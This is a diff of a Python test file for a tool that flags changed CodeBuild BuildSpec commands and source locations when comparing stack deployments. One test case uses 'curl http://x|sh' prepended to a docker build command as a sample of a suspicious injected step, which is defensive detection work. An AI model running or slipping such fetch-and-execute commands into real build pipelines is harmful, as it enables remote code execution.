@@ -88,27 +88,41 @@ def test_another_base_by_a_build_argument_is_named_once(tmp_path: Path) -> None:
     assert change.after["base images"] == ["builder:1", "ubuntu@sha256:1"]
 
 
+@pytest.mark.parametrize("tags", ["ab", "aa"])
 @pytest.mark.parametrize(
-    ("old", "new", "unexplained"),
+    ("old", "new", "is_told"),
     [
-        ("docker build .", "curl http://x|sh; docker build .", {"Source"}),
-        ("docker build .", "docker build --build-arg 'A=1' .", set()),
-        ("docker build .", "docker build --build-arg 'A=1' . ; echo it's", {"Source"}),
+        ("docker build .", "curl http://x|sh; docker build .", True),
+        ("docker build .", "docker build --build-arg 'A=1' . ; echo it's", True),
+        ("docker build .", "docker build --build-arg 'A=1' .", False),
+        ("docker build .", "docker build .", False),
     ],
 )
-def test_a_build_s_other_commands_are_not_passed_over_beside_another_image(
-    tmp_path: Path, old: str, new: str, unexplained: set[str]
+def test_other_commands_of_a_build_are_told_of_with_and_without_another_tag(
+    tmp_path: Path, old: str, new: str, tags: str, *, is_told: bool
 ) -> None:
-    def with_command(name: str, command: str) -> StackSide:
-        side = built(tmp_path / name, name, {"x/Dockerfile": f"{DOCKERFILE}# {name}\n"})
+    def with_command(place: str, tag: str, command: str) -> StackSide:
+        side = built(tmp_path / place, tag, {"x/Dockerfile": f"{DOCKERFILE}# {tag}\n"})
         source = side.template["Resources"]["Project"]["Properties"]["Source"]
         source["BuildSpec"] = json.dumps({"phases": {"build": {"commands": [command]}}})
         return side
 
-    comparison = Comparison(STACK, with_command("a", old), with_command("b", new), effects={})
-    assert len(list(images(comparison))) == 1
-    left = {name for name in comparison.differing("Project") if not comparison.is_explained("Project", name)}
-    assert left == unexplained
+    before, after = with_command("before", tags[0], old), with_command("after", tags[1], new)
+    found = [one for one in said(before, after) if one.summary == "the image is built in another way"]
+    assert [(one.before["BuildSpec"], one.after["BuildSpec"]) for one in found] == (
+        [tuple({"phases": {"build": {"commands": [one]}}} for one in (old, new))] if is_told else []
+    )
+
+
+def test_a_build_of_files_from_elsewhere_is_told_of(tmp_path: Path) -> None:
+    before, after = (built(tmp_path / tag, tag, {"x/Dockerfile": f"{DOCKERFILE}# {tag}\n"}) for tag in "ab")
+    source = after.template["Resources"]["Project"]["Properties"]["Source"]
+    source["Location"] = f"elsewhere/{source['Location']}"
+    (_, change) = said(before, after)
+    assert (change.before["Location"], change.after["Location"]) == (
+        "assets/<asset>.zip",
+        "elsewhere/assets/<asset>.zip",
+    )
 
 
 def test_another_variable_of_a_build_than_the_tag_is_not_passed_over(tmp_path: Path) -> None:
